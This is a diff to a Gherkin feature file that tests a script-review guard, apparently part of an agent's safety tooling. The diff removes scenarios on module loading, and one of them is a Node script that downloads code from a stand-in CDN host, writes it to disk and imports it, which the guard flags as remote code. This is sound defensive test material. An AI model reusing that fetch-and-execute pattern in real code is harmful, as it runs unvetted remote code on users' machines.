@@ -1,64 +1,11 @@
 @script-review
-Feature: script pre-review knows a module file by its fixed name and a child the script waits for
-  A benchmark loads `dist/codec.js` from each tree it is given: only the directory is computed,
-  the file's name is fixed in the script, so it is that file and not a module hidden behind a
-  computed name. A test runner starts its child in a session of its own so that Ctrl-C reaches
-  the script first, and waits for it: nothing of it outlives the run. Each benign form has its
-  twin beside it: a file name computed too, a download written there and loaded, or a child in
-  its own session that the script never waits for stays flagged.
-
-  Scenario: a module file of a fixed name in a directory given on the command line is that file
-    Given a project file "bench.js" containing:
-      """
-      const path = require('path');
-
-      function loadCodec(tree) {
-        return require(path.join(tree, 'dist', 'codec.js'));
-      }
-
-      for (const tree of process.argv.slice(2)) {
-        const codec = loadCodec(tree);
-        const t0 = Date.now();
-        codec.encode('x'.repeat(1 << 20));
-        console.log(`${tree}: ${Date.now() - t0} ms`);
-      }
-      """
-    When I run "terraphim-agent guard review-script --json bench.js"
-    Then the JSON field "verdict" is "clean"
-
-  Scenario: a module whose file name is computed too is still a hidden module name
-    Given a project file "bench_any.js" containing:
-      """
-      const path = require('path');
-
-      function loadCodec(tree, name) {
-        return require(path.join(tree, 'dist', name));
-      }
-
-      const codec = loadCodec(process.argv[2], process.argv[3]);
-      console.log(codec.encode('x'));
-      """
-    When I run "terraphim-agent guard review-script --json bench_any.js"
-    Then the JSON field "verdict" is "suspicious"
-    And stdout contains "obfuscated-execution"
-
-  Scenario: a download written under a fixed name and loaded from there is still run
-    Given a project file "boot.js" containing:
-      """
-      const fs = require('fs');
-      const path = require('path');
-
-      async function main(dir) {
-        const res = await fetch('https://cdn.widgets.example.net/boot.mjs');
-        fs.writeFileSync(path.join(dir, 'boot.mjs'), await res.text());
-        await import(path.join(dir, 'boot.mjs'));
-      }
-
-      main(process.argv[2]);
-      """
-    When I run "terraphim-agent guard review-script --json boot.js"
-    Then the JSON field "verdict" is "dangerous"
-    And stdout contains "remote-code"
+Feature: script pre-review knows a child the script waits for, a dependency's command and a long argv
+  A test runner starts its child in a session of its own so that Ctrl-C reaches the script
+  first, and waits for it: nothing of it outlives the run. A fixed name in the project's
+  `node_modules/.bin` is that dependency's command, what `npx` runs. A long argv turned into
+  text element by element keeps its program. Each benign form has its twin beside it: a child
+  in its own session that the script never waits for, a program of another name elsewhere, or
+  a program from the command line stays flagged.
 
   Scenario: a child in a session of its own that the script waits for is a process of the run
     Given a project file "run_tests.py" containing:
